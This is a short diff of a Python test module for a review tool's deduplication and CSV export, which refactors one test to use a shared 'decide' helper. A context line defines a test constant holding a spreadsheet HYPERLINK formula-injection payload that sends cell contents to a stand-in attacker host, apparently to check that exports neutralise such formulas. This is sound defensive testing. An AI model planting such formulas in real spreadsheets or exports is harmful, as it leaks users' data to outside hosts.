@@ -14,6 +14,7 @@ from review_tools.protocol import load_protocol
 from review_tools.records import Record, assign_ids
 from review_tools.screening import Decision, DecisionLog
 
+from .test_dedup import decide
 from .test_screening import ROOT
 
 ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
@@ -74,12 +75,7 @@ def test_uncertain_pairs_rewrite_does_not_add_apostrophes(tmp_path) -> None:
     result = dedup.deduplicate(records)
     assert len(result.uncertain) == 1
     path = dedup.write_uncertain(result, records, tmp_path / "uncertain_pairs.csv")
-    rows = list(csv.DictReader(path.open(encoding="utf-8")))
-    rows[0]["decision"] = "distinct"
-    with path.open("w", encoding="utf-8", newline="") as fh:
-        writer = csv.DictWriter(fh, dedup.UNCERTAIN_COLUMNS)
-        writer.writeheader()
-        writer.writerows(rows)
+    decide(path, "distinct")
     for _ in range(2):
         dedup.write_uncertain(result, records, path)
     (row,) = csv.DictReader(path.open(encoding="utf-8"))
